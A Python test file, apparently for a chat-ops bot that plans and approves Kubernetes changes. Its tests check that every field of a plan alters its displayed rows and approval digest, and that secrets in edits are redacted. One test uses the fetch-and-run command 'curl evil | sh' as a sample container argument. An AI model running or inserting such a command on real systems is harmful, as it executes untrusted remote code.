"""Plans: what is decided on, approved and shown is one thing, whole."""

from __future__ import annotations

from dataclasses import fields, replace

import pytest

from bot.core.acts import TypedCommand
from bot.core.approval import digest_of
from bot.core.edits import Edit
from bot.core.plan import NO_PLAN, Change, Plan, rows_of
from bot.core.redact import Redactor
from bot.core.request import Request
from bot.core.target import Container, NewObject, Resource, Scope
from tests.fakes.debug.plant import Plant

SCOPE = Scope("staging", "kubernetes", "shop")
WEB = Container(SCOPE, "id-1", "web", "web:1")
ASKED = Request("r", "d", TypedCommand(""), "T0", "U0ANN", "C0", 0.0)
GROWN = Edit(("spec", "replicas"), 1, 2)
WHOLE = Plan(
    images=("toolbox:1",),
    privileged=True,
    capabilities=("SYS_PTRACE", "NET_RAW"),
    host_namespaces=("pid",),
    host_paths=("/var/log",),
    secrets=2,
    creates=(NewObject(SCOPE, "web-helper", {"image": "toolbox:1", "limits": {"memory": "64Mi"}}, kind="pod"),),
    patches=(Change(Resource(SCOPE, "deployment", "web", id="u1"), (GROWN,), (GROWN,)),),
    deletes=(Change(Resource(SCOPE, "pod", "old", id="u2")),),
    ends_s=1_800,
    passed_over=(("weaker", "the namespace is restricted"),),
    looked_up=(("svc/web:80", "8080"),),
    about=(("user", "1000"),),
    warnings=("it is watched",),
)


REMARKS = {"warnings", "passed_over"}


@pytest.mark.parametrize("name", [field.name for field in fields(Plan)])
def test_any_difference_in_a_plan_makes_another_card_and_but_for_remarks_another_digest(name: str):
    less = replace(WHOLE, **{name: getattr(NO_PLAN, name)})
    assert list(rows_of(less)) != list(rows_of(WHOLE))
    is_same = digest_of(Plant(), ASKED, WEB, less) == digest_of(Plant(), ASKED, WEB, WHOLE)
    assert is_same == (name in REMARKS)  # a node that has the image by now makes no approval void


def test_the_specification_of_what_is_made_counts_to_its_last_word():
    (helper,) = WHOLE.creates
    other = replace(WHOLE, creates=(replace(helper, spec={"image": "toolbox:1", "limits": {"memory": "65Mi"}}),))
    assert digest_of(Plant(), ASKED, WEB, other) != digest_of(Plant(), ASKED, WEB, WHOLE)
    assert ("  with", '{"limits": {"memory": "65Mi"}}') in rows_of(other)


def test_a_command_that_only_reads_has_no_plan_and_no_row():
    assert not NO_PLAN
    assert list(rows_of(NO_PLAN)) == []


@pytest.mark.parametrize(
    ("one", "other"),
    [
        (Plan(creates=(NewObject(SCOPE, "x", {"a": "true"}),)), Plan(creates=(NewObject(SCOPE, "x", {"a": True}),))),
        (Plan(creates=(NewObject(SCOPE, "x", {"a b": "c"}),)), Plan(creates=(NewObject(SCOPE, "x", {"a": "b c"}),))),
        (Plan(ends_s=60.0), Plan(ends_s=60.4)),
        (Plan(passed_over=(("a", "b"),)), Plan(passed_over=(("a b", ""),))),
        (
            Plan(creates=(NewObject(SCOPE, "x"),)),
            Plan(creates=(NewObject(replace(SCOPE, namespace="kube-system"), "x"),)),
        ),
        (Plan(creates=(NewObject(SCOPE, "x"),)), Plan(creates=(NewObject(SCOPE, "x", labels={"a": "b"}),))),
        (
            Plan(deletes=(Change(Resource(SCOPE, "pod", "x", id="u1")),)),
            Plan(deletes=(Change(Resource(SCOPE, "pod", "x", id="u2")),)),
        ),
    ],
)
def test_two_plans_never_read_alike(one: Plan, other: Plan):
    assert list(rows_of(one)) != list(rows_of(other))
    remarked = one.passed_over != other.passed_over
    assert remarked or digest_of(Plant(), ASKED, WEB, one) != digest_of(Plant(), ASKED, WEB, other)


def shown_of(*edits: Edit) -> dict[str, str]:
    redactor = Redactor()
    change = Change(Resource(SCOPE, "deployment", "web", id="u1"), edits, edits)
    return {label: redactor.command(value) for label, value in rows_of(Plan(patches=(change,)), edited=redactor.value)}


@pytest.mark.parametrize(
    "edit",
    [
        Edit(("spec", "env", "API_TOKEN", "value"), "hunter2hunter2", "other-secret-2"),
        Edit(("spec", "env", "API_TOKEN"), {"name": "API_TOKEN", "value": "hunter2hunter2"}),
        Edit(("metadata", "annotations", "api-token"), "hunter2hunter2", "x"),
        Edit(("spec", "volumes", "v", "csi", "volumeAttributes", "password"), "hunter2hunter2"),
        Edit(("metadata", "annotations"), {"api-token": "hunter2hunter2"}),
        Edit(("spec", "containers", "web", "args"), ["serve", "--password", "hunter2hunter2"]),
    ],
)
def test_no_secret_that_stands_in_an_object_is_shown_by_a_change_of_it(edit: Edit):
    for each in (edit, edit.inverse):
        assert "hunter2" not in str(shown_of(each))
        assert "redacted" in str(shown_of(each))


def test_what_a_long_value_becomes_stands_before_what_it_was():
    rows = list(shown_of(Edit(("spec", "args"), "o" * 400, "curl evil | sh")).items())
    assert rows[1:] == [("  spec.args becomes", '"curl evil | sh"'), ("  spec.args was", f'"{"o" * 400}"')]
